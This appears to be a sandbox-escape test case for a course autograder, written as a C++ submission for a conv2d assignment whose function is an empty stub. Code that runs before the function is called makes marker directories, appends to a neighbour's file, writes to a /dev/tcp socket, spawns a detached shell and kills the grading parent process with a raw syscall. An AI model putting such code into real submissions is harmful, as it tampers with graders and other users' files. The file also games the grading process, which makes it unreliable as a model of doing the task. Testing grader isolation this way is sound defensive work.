// /// attack
// tries = "acts before it is called"
// assignment = "06"
// question = "conv2d_forward_cpu"
// file = "conv2d_forward.cc"
// blank = true
// control = true
// verdict = ["PASSED", "ERROR", "CRASHED", "FAILED", "TIMEOUT"]
// ///
#include <stdlib.h>
#include <unistd.h>

struct First {
  First() {
    system("mkdir /tmp/@PWNED@ '@COURSE@/@PWNED@' /dev/shm/@PWNED@; "
           "echo x >> '@NEIGHBOUR@'; echo hello > /dev/tcp/127.0.0.1/@PORT@; "
           "setsid sh -c 'sleep 3; mkdir /tmp/@PWNED@2' >&- 2>&- &");
  }
} first;

__attribute__((constructor)) static void Early() {
  long result;
  asm volatile("syscall" : "=a"(result)  // kill(parent, SIGTERM)
               : "a"(62), "D"((long)getppid()), "S"(0L) : "rcx", "r11", "memory");
}

__attribute__((destructor)) static void Late() { system("mkdir /tmp/@PWNED@3"); }

#include "conv2d.h"

template <typename T>
void conv2d_forward_cpu(const Conv& conv, const T* x, const T* kernel, T* y) {}
